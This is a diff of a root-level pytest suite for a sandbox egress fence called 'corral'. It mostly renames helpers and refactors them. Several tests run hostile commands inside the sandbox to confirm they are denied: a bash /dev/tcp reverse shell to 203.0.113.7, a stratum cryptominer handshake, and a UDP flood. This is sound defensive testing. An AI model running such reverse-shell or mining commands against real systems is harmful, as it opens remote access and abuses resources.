@@ -21,12 +21,13 @@ from typing import Any
 
 import pytest
 
-from corral import Deny, ExecResult, Policy, Sandbox
+from corral import Deny, Policy, Sandbox
 from corral.egress import service
 from corral.egress.rules import IPAddress
 from corral.events import DnsQuery, NetConnect, SandboxStop
 from corral.isolation import _linux as L
-from corral.isolation import launcher, netns, sockdiag
+from corral.isolation import child, netns, sockdiag
+from helpers import show, wait_until
 from servers import (
     HOST_KEY_ALIAS,
     LocalUpstream,
@@ -36,7 +37,6 @@ from servers import (
     stratum_pool,
     tcp_listener,
     tls_server,
-    wait_for,
 )
 
 pytestmark = pytest.mark.root
@@ -57,10 +57,6 @@ def connects(sb: Sandbox) -> list[NetConnect]:
 
 def denials(sb: Sandbox, layer: str = "egress") -> list[Deny]:
     return [e for e in sb.events() if isinstance(e, Deny) and e.layer == layer]
-
-
-def show(r: ExecResult) -> str:
-    return f"exit {r.exit_code}\nstdout: {r.stdout!r}\nstderr: {r.stderr!r}"
 
 
 @pytest.fixture
@@ -224,7 +220,7 @@ def test_a_server_half_close_reaches_the_client_and_the_client_can_still_send() 
                 )
                 assert r.exit_code == 0, show(r)
         rounds = 2 * _HALF_CLOSE_ROUNDS
-        assert wait_for(lambda: sum(c.closed for c in server.connections) == rounds)
+        assert wait_until(lambda: sum(c.closed for c in server.connections) == rounds)
     tail = b"after your eof:%d" % len(_GREETING)
     expected = [tail] * _HALF_CLOSE_ROUNDS + [b"SSH-2.0-OpenSSH_9.2\r\n" + tail] * _HALF_CLOSE_ROUNDS
     assert [bytes(c.data) for c in server.connections] == expected
@@ -471,7 +467,7 @@ print(fails)
         r = sb.exec(
             "python3 flood.py; curl -sS -m 3 -6 'http://[2001:db8::1]/'; ping -c 1 -W 1 192.0.2.1", text=True
         )
-        assert wait_for(lambda: any(d.what == "udp 2001:db8::5 port 53" for d in denials(sb)))
+        assert wait_until(lambda: any(d.what == "udp 2001:db8::5 port 53" for d in denials(sb)))
         udp = [d for d in denials(sb) if d.what == "udp 192.0.2.9 port 9"]
     assert str(r.stdout).splitlines()[:2] == ["v6 refused", "300"], show(r)
     assert 1 <= len(udp) <= 100  # every drop refused; logging is rate-limited so a flood can't swamp corral
@@ -485,7 +481,7 @@ def test_tcp_over_ipv6_is_refused_at_once_and_recorded() -> None:
     )
     with Sandbox(policy([]), keep_workspace=False) as sb:
         r = sb.exec(["python3", "-c", script], text=True, timeout=30)
-        assert wait_for(lambda: any(d.what == "tcp 2001:db8::7 port 443" for d in denials(sb)))
+        assert wait_until(lambda: any(d.what == "tcp 2001:db8::7 port 443" for d in denials(sb)))
     assert str(r.stdout).split()[0] == "ConnectionRefusedError", show(r)
     assert float(str(r.stdout).split()[1]) < 1.0, show(r)
 
@@ -539,7 +535,7 @@ def test_stratum_is_cut_even_where_any_protocol_is_allowed() -> None:
                 '[\\"cpuminer/2.5\\"]}\\n"); print(s.recv(100))\'',
                 text=True,
             )
-            assert wait_for(lambda: bool(connects(sb)))
+            assert wait_until(lambda: bool(connects(sb)))
             events = connects(sb)
         assert miner_pool.lines == []
     assert str(r.stdout).strip() == "b''", show(r)
@@ -592,7 +588,7 @@ def test_bytes_out_budget_cuts_an_upload(web: Any) -> None:
 def test_a_reverse_shell_listener_is_never_reached() -> None:
     with tcp_listener() as catcher, Sandbox(policy([]), keep_workspace=False) as sb:
         sb.exec(f"bash -c 'bash -i >& /dev/tcp/203.0.113.7/{catcher.port} 0>&1'", timeout=20)
-        assert not wait_for(lambda: bool(catcher.connections), timeout=0.5)
+        assert not wait_until(lambda: bool(catcher.connections), timeout=0.5)
         assert any(d.what == f"203.0.113.7 port {catcher.port}" for d in denials(sb))
 
 
@@ -689,12 +685,12 @@ def test_the_sandbox_loopback_takes_the_largest_segments_lo_allows() -> None:
     assert gso == gso_ipv4 == tso
 
 
-def test_the_fence_routes_ipv6_whatever_proc_the_launcher_sees_by_then() -> None:
-    # The launcher sets up the fence while init builds the sandbox's root in the mount namespace they
-    # share; once init has pivoted, "/proc" there is the sandbox's, without the launcher's pid. Reading
-    # /proc/self/net then failed now and again, the sandbox started without its IPv6 default route,
-    # and its IPv6 attempts failed with "network unreachable" before netfilter, unrecorded. Here the
-    # launcher's /proc is an empty directory from the start.
+def test_the_fence_routes_ipv6_whatever_proc_the_intermediate_child_sees_by_then() -> None:
+    # The intermediate child sets up the fence while init builds the sandbox's root in the mount
+    # namespace they share; once init has pivoted, "/proc" there is the sandbox's, without that
+    # child's pid. Reading /proc/self/net then failed now and again, the sandbox started without its
+    # IPv6 default route, and its IPv6 attempts failed with "network unreachable" before netfilter,
+    # unrecorded. Here the child's /proc is an empty directory from the start.
     read, write = os.pipe()
     pid = os.fork()
     if pid == 0:  # pragma: no cover - the child reports through the pipe
@@ -703,7 +699,7 @@ def test_the_fence_routes_ipv6_whatever_proc_the_launcher_sees_by_then() -> None
             L.mount("none", "/", None, L.MS_REC | L.MS_PRIVATE)
             proc = os.open("/proc", os.O_PATH | os.O_DIRECTORY)
             L.mount("none", "/proc", "tmpfs", 0)
-            launcher._loopback_up()
+            child.loopback_up()
             netns.apply_in_child(proc)
             with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
                 try:
@@ -764,7 +760,7 @@ def test_the_socket_table_finds_tcp_and_udp_sockets_by_their_addresses() -> None
 
 
 def test_the_fence_checks_that_it_can_attribute_connections_before_a_sandbox_starts() -> None:
-    # The check runs in the launcher; here it is given a socket the TCP table can't hold, as a
+    # The check runs in the intermediate child; here it is given a socket the TCP table can't hold, as a
     # kernel without a working sock_diag would answer for any.
     with sockdiag.open_socket() as diag, socket.create_server(("127.0.0.1", 0)) as listener:
         netns.check_attribution(diag, listener)
